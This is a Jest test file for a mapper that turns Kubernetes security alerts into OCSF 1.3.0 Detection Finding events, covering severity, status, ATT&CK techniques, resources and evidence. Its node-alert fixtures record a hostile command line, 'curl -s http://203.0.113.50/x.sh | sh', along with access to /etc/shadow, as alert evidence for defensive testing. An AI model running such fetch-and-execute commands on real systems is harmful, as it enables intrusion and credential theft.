import { type Alert, AlertStatus } from '../../../../shared/alerts/alert';
import { OCSF_SCHEMA_VERSION, toOcsfDetectionFinding } from '../../../../shared/alerts/export/ocsfFormat';
import { type Severity } from '../../../../shared/detection/rule';
import { nodeAlert, templateAlert } from '../../../support/alertFixtures';

const options = { productVersion: '1.2.3' };

function finding(alert: Alert = templateAlert()): Record<string, unknown> {
  // Through JSON, as a SIEM receives it.
  return JSON.parse(JSON.stringify(toOcsfDetectionFinding(alert, options))) as Record<string, unknown>;
}

function at(value: unknown, path: string): unknown {
  return path.split('.').reduce<unknown>((node, key) => (node !== null && typeof node === 'object' ? (node as Record<string, unknown>)[key] : undefined), value);
}

/**
 * The attributes OCSF 1.3.0 requires of a Detection Finding and of the objects it carries
 * (base_event.json, finding.json, objects/metadata.json, product.json, finding_info.json;
 * 1.4.0 relaxed finding_info.title and product.vendor_name), with their JSON types.
 */
const requiredAttributes: [string, 'number' | 'string' | 'object'][] = [
  ['activity_id', 'number'],
  ['category_uid', 'number'],
  ['class_uid', 'number'],
  ['type_uid', 'number'],
  ['severity_id', 'number'],
  ['time', 'number'],
  ['metadata', 'object'],
  ['metadata.version', 'string'],
  ['metadata.product', 'object'],
  ['metadata.product.vendor_name', 'string'],
  ['metadata.product.name', 'string'],
  ['finding_info', 'object'],
  ['finding_info.uid', 'string'],
  ['finding_info.title', 'string'],
];

describe('toOcsfDetectionFinding', () => {
  it.each(requiredAttributes)('when the template alert is mapped, then the required attribute %s is a %s', (path, type) => {
    const value = at(finding(), path);
    expect(typeof value).toBe(type);
    expect(value).not.toBeNull();
    if (type === 'number') expect(Number.isInteger(value)).toBe(true);
    if (type === 'string') expect(value).not.toBe('');
  });

  it('when the template alert is mapped, then it is a 1.3.0 Detection Finding of the Findings category', () => {
    const event = finding();
    expect(OCSF_SCHEMA_VERSION).toBe('1.3.0');
    expect(event).toMatchObject({
      class_uid: 2004,
      class_name: 'Detection Finding',
      category_uid: 2,
      category_name: 'Findings',
      metadata: { version: '1.3.0', product: { name: 'Argus', vendor_name: 'Argus', version: '1.2.3' } },
    });
  });

  it('when the alert is at version 1, then the activity is Create and type_uid is 200401', () => {
    expect(finding()).toMatchObject({ activity_id: 1, activity_name: 'Create', type_uid: 200401, type_name: 'Detection Finding: Create' });
  });

  it('when the alert changed since it was raised, then the activity is Update and type_uid is 200402', () => {
    const event = finding({ ...templateAlert(), version: 2 });
    expect(event).toMatchObject({ activity_id: 2, activity_name: 'Update', type_uid: 200402, type_name: 'Detection Finding: Update' });
    expect(event['type_uid']).toBe((event['class_uid'] as number) * 100 + (event['activity_id'] as number));
  });

  it.each<[Severity, number, string]>([
    ['Informational', 1, 'Informational'],
    ['Low', 2, 'Low'],
    ['Medium', 3, 'Medium'],
    ['High', 4, 'High'],
  ])('when the severity is %s, then severity_id is %i (%s)', (severity, id, name) => {
    expect(finding({ ...templateAlert(), severity })).toMatchObject({ severity_id: id, severity: name });
  });

  it.each<[AlertStatus, number, string]>([
    [AlertStatus.Active, 1, 'New'],
    [AlertStatus.InProgress, 2, 'In Progress'],
    [AlertStatus.Dismissed, 3, 'Suppressed'],
    [AlertStatus.Resolved, 4, 'Resolved'],
  ])('when the status is %s, then status_id is %i (%s)', (status, id, name) => {
    expect(finding({ ...templateAlert(), status })).toMatchObject({ status_id: id, status: name });
  });

  it('when the alert is mapped, then the times are milliseconds since the epoch, time being the last change', () => {
    const alert: Alert = { ...templateAlert(), version: 5, lastModifiedUtc: '2026-11-02T13:00:00.500Z' };
    const event = finding(alert);
    expect(event).toMatchObject({
      time: Date.parse('2026-11-02T13:00:00.500Z'),
      start_time: Date.parse(alert.startTimeUtc),
      end_time: Date.parse(alert.endTimeUtc),
      metadata: { uid: `${alert.id}:5` },
      finding_info: {
        created_time: Date.parse('2026-11-02T12:00:00.000Z'),
        first_seen_time: Date.parse(alert.startTimeUtc),
        last_seen_time: Date.parse(alert.endTimeUtc),
        modified_time: Date.parse('2026-11-02T13:00:00.500Z'),
      },
    });
  });

  it('when the template alert is mapped, then finding_info names the alert and its rule', () => {
    const alert = templateAlert();
    expect(finding(alert)).toMatchObject({
      message: alert.description,
      count: 1,
      finding_info: {
        uid: alert.id,
        title: 'Privileged container detected',
        desc: alert.description,
        types: ['K8S_PrivilegedContainer'],
        analytic: { uid: 'privileged-container', type_id: 1, type: 'Rule' },
      },
    });
  });

  it('when the template alert is mapped, then attacks carry its techniques with the Privilege Escalation tactic', () => {
    const event = finding();
    const tactic = { uid: 'TA0004', name: 'Privilege Escalation' };
    const expected = [
      { tactic, technique: { uid: 'T1611' } },
      { tactic, technique: { uid: 'T1610' } },
    ];
    expect(event['attacks']).toEqual(expected);
    expect(at(event, 'finding_info.attacks')).toEqual(expected);
  });

  it('when a technique is a sub-technique, then the attack carries its parent technique and the sub-technique', () => {
    const event = finding({ ...templateAlert(), intent: 'CredentialAccess', techniques: ['T1552.007'] });
    expect(event['attacks']).toEqual([{ tactic: { uid: 'TA0006', name: 'Credential Access' }, technique: { uid: 'T1552' }, sub_technique: { uid: 'T1552.007' } }]);
  });

  it('when the intent is not an ATT&CK tactic and there are no techniques, then there are no attacks', () => {
    const event = finding({ ...templateAlert(), intent: 'Probing', techniques: [] });
    expect(event['attacks']).toBeUndefined();
    expect(at(event, 'finding_info.attacks')).toBeUndefined();
  });

  it('when the template alert is mapped, then the resources are the cluster, the namespace and the pod', () => {
    const alert = templateAlert();
    expect(finding(alert)['resources']).toEqual([
      { uid: alert.clusterResourceId, name: 'aks-prod-01', type: 'Kubernetes Cluster' },
      { name: 'shop', type: 'Kubernetes Namespace' },
      { name: 'web-7d9f8c6b5-x2k4q', type: 'Kubernetes Pod', data: { namespace: 'shop', kind: 'pods' } },
    ]);
  });

  it('when the template alert is mapped, then the observables hold the cluster, the account, the ip, the pod and the image', () => {
    const alert = templateAlert();
    const observables = finding(alert)['observables'] as { name: string; type_id: number; type: string; value: string }[];
    expect(observables).toEqual(
      expect.arrayContaining([
        { name: 'resources.uid', type_id: 10, type: 'Resource UID', value: alert.clusterResourceId },
        { name: 'actor.user.name', type_id: 4, type: 'User Name', value: 'dana@contoso.com' },
        { name: 'evidences.src_endpoint.ip', type_id: 2, type: 'IP Address', value: '203.0.113.24' },
        { name: 'resources.name', type_id: 99, type: 'Kubernetes Pod', value: 'web-7d9f8c6b5-x2k4q' },
        { name: 'evidences.container.image.name', type_id: 99, type: 'Container Image', value: 'contoso.azurecr.io/shop/web:1.4.2' },
      ]),
    );
    for (const observable of observables) {
      expect(typeof observable.name).toBe('string');
      expect(Number.isInteger(observable.type_id)).toBe(true);
    }
  });

  it('when the template alert is mapped, then the actor and the evidence name the account, the source ip and the container', () => {
    expect(finding()).toMatchObject({
      actor: { user: { name: 'dana@contoso.com' } },
      evidences: [{ actor: { user: { name: 'dana@contoso.com' } }, src_endpoint: { ip: '203.0.113.24' }, container: { name: 'app', image: { name: 'contoso.azurecr.io/shop/web:1.4.2' } } }],
    });
  });

  it('when the alert has no account, then there is no actor and no user name observable', () => {
    const alert: Alert = { ...templateAlert(), entities: templateAlert().entities.filter((entity) => entity.type !== 'account') };
    const event = finding(alert);
    expect(event['actor']).toBeUndefined();
    expect((event['observables'] as { type_id: number }[]).some((observable) => observable.type_id === 4)).toBe(false);
  });

  it('when the template alert is mapped, then the remediation is its steps and Argus fields are unmapped', () => {
    const alert = templateAlert();
    expect(finding(alert)).toMatchObject({
      remediation: { desc: alert.remediationSteps.join('\n') },
      unmapped: {
        ruleId: 'privileged-container',
        version: 1,
        isSimulated: false,
        correlationKey: alert.correlationKey,
        evidenceAuditIds: ['c0ffee00-0000-4000-8000-000000000001'],
        subscriptionId: alert.subscriptionId,
      },
    });
  });

  it('when an ingested alert is mapped, then the event is plain JSON without the ingestion bookkeeping', () => {
    const alert: Alert = { ...templateAlert(), ingestedThrough: { 'audit/0': 12 } };
    const event = toOcsfDetectionFinding(alert, options);
    expect(JSON.parse(JSON.stringify(event))).toEqual(event);
    expect(JSON.stringify(event)).not.toContain('ingestedThrough');
    expect(JSON.stringify(event)).not.toContain('"audit/0"');
  });

  it('when the event is mapped, then the attributes 1.3.0 does not define for the class are absent', () => {
    const event = finding();
    expect(event['is_alert']).toBeUndefined();
    expect([1, 2, 3, 4]).toContain(event['status_id']);
  });
});

describe('toOcsfDetectionFinding for node alerts', () => {
  const NODE = 'aks-nodepool1-12345678-vmss000000';
  const connection = (): Alert => nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });

  it.each(requiredAttributes)('when a node alert is mapped, then the required attribute %s is a %s', (path, type) => {
    expect(typeof at(finding(connection()), path)).toBe(type);
  });

  it('when a node alert is mapped, then its evidence names the node, the process tree, the file, the remote end and the container', () => {
    expect(finding(connection())['evidences']).toEqual([
      {
        container: { name: 'web', image: { name: 'docker.io/library/nginx:1.27' } },
        device: { hostname: NODE, type_id: 6, type: 'Virtual' },
        process: {
          name: 'curl',
          pid: 4242,
          cmd_line: '/usr/bin/curl -s http://203.0.113.50/x.sh',
          file: { name: 'curl', path: '/usr/bin/curl', type_id: 1, type: 'Regular File' },
          parent_process: {
            name: 'sh',
            pid: 4100,
            cmd_line: '/bin/sh -c "curl -s http://203.0.113.50/x.sh | sh"',
            file: { name: 'sh', path: '/bin/sh', type_id: 1, type: 'Regular File' },
          },
          lineage: ['/usr/sbin/nginx', '/bin/sh', '/usr/bin/curl'],
        },
        file: { name: 'shadow', path: '/etc/shadow', type_id: 0, type: 'Unknown' },
        dst_endpoint: { ip: '198.51.100.7', port: 3333 },
      },
    ]);
  });

  it('when a node alert is mapped, then there is no actor and the remote address is never a source endpoint', () => {
    const event = finding(connection());
    expect(event['actor']).toBeUndefined();
    expect(JSON.stringify(event)).not.toContain('src_endpoint');
  });

  it('when a node alert is mapped, then the resources are the cluster, the namespace, the pod, the workload and the node', () => {
    const alert = connection();
    expect(finding(alert)['resources']).toEqual([
      { uid: alert.clusterResourceId, name: 'aks-prod-01', type: 'Kubernetes Cluster' },
      { name: NODE, type: 'Kubernetes Node' },
      { name: 'shop', type: 'Kubernetes Namespace' },
      { name: 'web-7d4b9c6f5-x2x9k', type: 'Kubernetes Pod', data: { namespace: 'shop' } },
      { name: 'web', type: 'Kubernetes Workload', data: { namespace: 'shop', kind: 'Deployment' } },
    ]);
  });

  it('when a node alert is mapped, then the observables point at the node, the remote address, the process and the file', () => {
    const observables = finding(connection())['observables'] as { name: string; type_id: number; value: string }[];
    expect(observables).toEqual(
      expect.arrayContaining([
        { name: 'evidences.device.hostname', type_id: 1, type: 'Hostname', value: NODE },
        { name: 'evidences.dst_endpoint.ip', type_id: 2, type: 'IP Address', value: '198.51.100.7' },
        { name: 'evidences.process.name', type_id: 9, type: 'Process Name', value: 'curl' },
        { name: 'evidences.process.cmd_line', type_id: 13, type: 'Command Line', value: '/usr/bin/curl -s http://203.0.113.50/x.sh' },
        { name: 'evidences.file.name', type_id: 7, type: 'File Name', value: 'shadow' },
        { name: 'resources.name', type_id: 99, type: 'Kubernetes Node', value: NODE },
      ]),
    );
    // Each observable points at a value that is in the event.
    const event = finding(connection());
    for (const observable of observables.filter((o) => o.name.startsWith('evidences.'))) {
      expect(at((event['evidences'] as unknown[])[0], observable.name.slice('evidences.'.length))).toBe(observable.value);
    }
  });

  it('when the process has no pid, then it goes to the evidence data (1.3.0 requires a pid or uid of a Process) and its observables point there', () => {
    const event = finding(nodeAlert({ pid: null }));
    const [evidence] = event['evidences'] as Record<string, unknown>[];
    expect(evidence?.['process']).toBeUndefined();
    expect(at(evidence, 'data.process')).toMatchObject({ name: 'curl', cmd_line: '/usr/bin/curl -s http://203.0.113.50/x.sh', parent_process: { pid: 4100 } });
    expect(at(evidence, 'data.process.pid')).toBeUndefined();
    expect(event['observables']).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'evidences.data.process.name', value: 'curl' })]));
  });

  it('when the parent has no pid and there are no ancestors, then there is no parent_process and no lineage', () => {
    const event = finding(nodeAlert({ parent: { binary: '/usr/bin/runc' }, ancestors: [] }));
    const process = at((event['evidences'] as unknown[])[0], 'process') as Record<string, unknown>;
    expect(process).toMatchObject({ name: 'curl', pid: 4242 });
    expect([process['parent_process'], process['lineage']]).toEqual([undefined, undefined]);
  });

  it('when the process runs on the host, then there is no container and the node is still the device', () => {
    const [evidence] = finding(nodeAlert({ pod: null }))['evidences'] as Record<string, unknown>[];
    expect(evidence?.['container']).toBeUndefined();
    expect(evidence?.['device']).toEqual({ hostname: NODE, type_id: 6, type: 'Virtual' });
  });

  it('when the alert names several files and remote ends, then the first are in the first evidence and each further one is an evidence of its own', () => {
    const alert = connection();
    const more: Alert = {
      ...alert,
      entities: [...alert.entities, { type: 'file', name: '/etc/gshadow' }, { type: 'ip', address: '203.0.113.9', port: 80 }],
    };
    const evidences = finding(more)['evidences'] as Record<string, unknown>[];
    expect(evidences).toHaveLength(3);
    expect(evidences[0]).toMatchObject({ file: { path: '/etc/shadow' }, dst_endpoint: { ip: '198.51.100.7' } });
    expect(evidences.slice(1)).toEqual([
      { file: { name: 'gshadow', path: '/etc/gshadow', type_id: 0, type: 'Unknown' } },
      { dst_endpoint: { ip: '203.0.113.9', port: 80 } },
    ]);
  });

  it('when the command line is hostile, then it is carried as is (JSON escapes it) and reads back exactly', () => {
    const hostile = 'x | y = z\n\\evil\r\n"quoted" \u2028';
    const event = finding(nodeAlert({ arguments: hostile }));
    expect(at((event['evidences'] as unknown[])[0], 'process.cmd_line')).toBe(`/usr/bin/curl ${hostile}`);
  });

  it('when an audit alert names processes, files and hosts, then its evidence is unchanged: no device, process, file or destination', () => {
    const alert: Alert = {
      ...templateAlert(),
      entities: [...templateAlert().entities, { type: 'process', commandLine: 'sh -c id' }, { type: 'file', name: '/etc/kubernetes' }],
    };
    expect(finding(alert)['evidences']).toEqual(finding()['evidences']);
  });
});
